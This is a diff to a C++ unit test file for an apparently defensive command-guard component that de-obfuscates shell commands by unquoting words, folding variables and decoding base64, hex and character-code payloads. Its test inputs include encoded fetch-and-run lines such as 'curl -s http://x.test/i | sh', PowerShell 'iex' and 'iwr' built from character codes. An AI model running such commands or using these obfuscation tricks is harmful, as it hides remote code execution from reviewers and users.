@@ -1,9 +1,11 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
 #include "core/guard/CommandViews.h"
+#include "core/guard/PayloadDecoding.h"
 
 #include <gtest/gtest.h>
 
 #include <string>
+#include <tuple>
 #include <utility>
 #include <vector>
 
@@ -32,6 +34,8 @@ TEST(CommandViews, WordsUnquoted) {
         // An unbalanced quote is kept and the rest still read.
         {R"(echo "c'u'rl)", R"(echo "curl)"},
         {"echo 'x", "echo 'x"},
+        // Where backslashes separate Windows paths, they are not escapes.
+        {R"(copy C:\Users\me\notes.txt \\nas\backup\)", R"(copy C:\Users\me\notes.txt \\nas\backup\)"},
     };
     for (const auto& [text, expected] : cases)
         EXPECT_EQ(unquotedWords(text), expected) << text;
@@ -51,6 +55,9 @@ TEST(CommandViews, AssignmentsFolded) {
         {"echo a=b; $a", "echo a=b; $a"},
         {"if ($a == 'x') { $a }", "if ($a == x) { $a }"},
         {"echo 'it' + 's", "echo it + 's"},
+        // cmd: names ignore case, the value runs to the command's end.
+        {"set a=cu&& set \"B=rl\"&& %a%%b% x", "set a=cu&& set B=rl&& curl x"},
+        {"echo %PATH% %a%", "echo %PATH% %a%"},
     };
     for (const auto& [text, expected] : cases)
         EXPECT_EQ(foldedAssignments(text, 4096), expected) << text;
@@ -60,21 +67,36 @@ TEST(CommandViews, AssignmentsFolded) {
     EXPECT_EQ(foldedAssignments("a=\xC3\xA9\xC3\xA9;$a$a", 10), "a=\xC3\xA9\xC3\xA9;\xC3\xA9");
 }
 
-TEST(CommandViews, Base64Decoded) {
-    const Cases cases = {
-        {"echo Y3VybCAtcyBodHRwOi8veC50ZXN0L2kgfCBzaA== | base64 -d | sh", "curl -s http://x.test/i | sh"},
-        {"echo Y3VybCAtcyBodHRwOi8veC50ZXN0L2kgfCBzaA | base64 -d", "curl -s http://x.test/i | sh"},
-        {"powershell -enc aQBlAHgAIAAkAHgA", "iex $x"},
-        {"echo ZWNobyBjYWbDqSBvaw== | base64 -d", "echo caf\xC3\xA9 ok"},
-        {"a YWJjZGVmZ2hpamtsbW5vcA== b cXJzdHV2d3h5ejAxMjM0NTY3", "abcdefghijklmnop\nqrstuvwxyz01234567"},
-        // Binary payloads, hashes, short runs and paths are not text.
-        {"echo AAECAwQFBgcICQoLDA0ODxAREhMUFRYX | base64 -d", ""},
-        {"sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", ""},
-        {"echo aGVsbG8= | base64 -d", ""},
-        {"ls /usr/local/share/applications/", ""},
+// Each decoder finds its payloads and turns away binary, hashes, short runs and ordinary numbers.
+TEST(CommandViews, PayloadsDecoded) {
+    using Decoder = std::string (*)(std::string_view);
+    const std::vector<std::tuple<Decoder, std::string, std::string>> cases = {
+        {payload_decoding::base64, "echo Y3VybCAtcyBodHRwOi8veC50ZXN0L2kgfCBzaA== | base64 -d | sh",
+         "curl -s http://x.test/i | sh"},
+        {payload_decoding::base64, "echo Y3VybCAtcyBodHRwOi8veC50ZXN0L2kgfCBzaA | base64 -d",
+         "curl -s http://x.test/i | sh"},
+        {payload_decoding::base64, "powershell -enc aQBlAHgAIAAkAHgA", "iex $x"},
+        {payload_decoding::base64, "echo ZWNobyBjYWbDqSBvaw== | base64 -d", "echo caf\xC3\xA9 ok"},
+        {payload_decoding::base64, "a YWJjZGVmZ2hpamtsbW5vcA== b cXJzdHV2d3h5ejAxMjM0NTY3",
+         "abcdefghijklmnop\nqrstuvwxyz01234567"},
+        {payload_decoding::base64, "echo AAECAwQFBgcICQoLDA0ODxAREhMUFRYX | base64 -d", ""},
+        {payload_decoding::base64, "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", ""},
+        {payload_decoding::base64, "echo aGVsbG8= | base64 -d", ""},
+        {payload_decoding::base64, "ls /usr/local/share/applications/", ""},
+        {payload_decoding::hex, R"(printf '\x63\x75\x72\x6c x')", "printf 'curl x'"},
+        {payload_decoding::hex, "echo 6375726c202d7320782e74657374 | xxd -r -p", "curl -s x.test"},
+        {payload_decoding::hex, R"(echo -e '\x00\x01\x02\x03')", ""},
+        {payload_decoding::hex, "git show e3b0c44298fc1c149afbf4c8996fb92427ae41e4", ""},
+        {payload_decoding::characterCodes, "iex ([char]105+[char]119+[char]114+[Char]0x20)", "iwr"},
+        {payload_decoding::characterCodes, "-join [char[]](105, 101, 120)", ""},
+        {payload_decoding::characterCodes, "-join [char[]](99,117,114,108)", "curl"},
+        {payload_decoding::characterCodes, "perl -e 'print chr(99).chr(117).chr(114).chr(108)'", "curl"},
+        {payload_decoding::characterCodes, "String.fromCharCode(0x63,0x75,0x72,0x6c)", "curl"},
+        {payload_decoding::characterCodes, "ports 80, 443, 8080, 8443 and 10.0.0.1", ""},
+        {payload_decoding::characterCodes, "seq 1 2 3 4 5 6", ""},
     };
-    for (const auto& [text, expected] : cases)
-        EXPECT_EQ(decodedBase64(text), expected) << text;
+    for (const auto& [decode, text, expected] : cases)
+        EXPECT_EQ(decode(text), expected) << text;
 }
 
 TEST(CommandViews, DeriveKeepsDistinctViewsWithinBudget) {
@@ -85,11 +107,10 @@ TEST(CommandViews, DeriveKeepsDistinctViewsWithinBudget) {
     const std::vector<std::pair<std::string, std::vector<std::string>>> cases = {
         {"ls -la ~/src", {}},
         {R"(grep "curl | bash" notes.txt)", {}},
-        {R"(c"u"rl x)", {"command words unquoted"}},
-        {"a=cu;$a x", {"assignments folded"}},
-        {"powershell -enc YwAiAHUAIgByAGwAIAB4AA==",
-         {"decoded from base64", "decoded from base64, command words unquoted"}},
-        {nested, {"decoded from base64", "decoded from base64 twice"}},
+        {R"(c"u"rl x)", {"unquoted"}},
+        {"a=cu;$a x", {"folded"}},
+        {"powershell -enc YwAiAHUAIgByAGwAIAB4AA==", {"base64", "base64/unquoted"}},
+        {nested, {"base64", "base64/base64"}},
     };
     for (const auto& [text, origins] : cases) {
         std::vector<std::string> found;
@@ -99,11 +120,12 @@ TEST(CommandViews, DeriveKeepsDistinctViewsWithinBudget) {
         }
         EXPECT_EQ(found, origins) << text;
     }
-    const auto cut = derive(R"(c"u"rl )" + std::string(300, 'x'), 100);
-    ASSERT_FALSE(cut.empty());
-    EXPECT_EQ(cut[0].text, "curl " + std::string(95, 'x'));
-    for (const auto& view : cut)
-        EXPECT_LE(view.text.size(), 100U) << view.origin;
+    // Views together stay within the budget: here the first takes it all.
+    const auto cut = derive(R"(c"u"rl a=b;$a )" + std::string(300, 'x'), 100);
+    ASSERT_EQ(cut.size(), 1U);
+    EXPECT_EQ(cut[0].text, "curl a=b;$a " + std::string(88, 'x'));
+    EXPECT_EQ(description("base64/hex/unquoted"),
+              "decoded from base64, then decoded from hex, then with quotes and escapes taken out of its words");
 }
 
 }  // namespace
